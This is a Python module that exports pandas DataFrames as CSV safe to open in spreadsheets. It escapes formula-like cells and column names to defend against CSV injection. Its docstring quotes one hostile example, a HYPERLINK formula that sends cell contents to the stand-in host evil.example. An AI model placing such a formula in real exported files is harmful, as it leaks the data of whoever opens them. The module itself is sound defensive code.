"""CSV files for people to download: a spreadsheet opening one reads every cell as data, never as a formula.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets (`=HYPERLINK("http://evil.example/?"&A1,"x")` sends the sheet away when clicked). Such cells,
and such column names, get a leading `'` (OWASP's rule for CSV injection); number, boolean and time columns are
written as they are, so -2.5 stays a number. Lines end in CRLF (RFC 4180), so a value holding a lone carriage
return is quoted too and cannot start a row of its own.
"""

from __future__ import annotations

from typing import Any

import pandas as pd
from pandas.api import types

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _as_text(value: Any) -> Any:
    """`value` with a `'` before it if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _holds_values(column: pd.Series) -> bool:
    """Whether the column's dtype holds numbers, booleans or times (written by pandas, never free text)."""
    return types.is_numeric_dtype(column) or types.is_datetime64_any_dtype(column) or types.is_timedelta64_dtype(column)


def safe_csv(frame: pd.DataFrame) -> str:
    """The frame as CSV text (no index) that spreadsheets open as data: formula-like text is escaped."""
    escaped = frame.copy(deep=False)
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if not _holds_values(column):
            escaped.isetitem(position, column.astype(object).map(_as_text))
    escaped.columns = [_as_text(name) for name in frame.columns]
    return escaped.to_csv(index=False, lineterminator="\r\n")
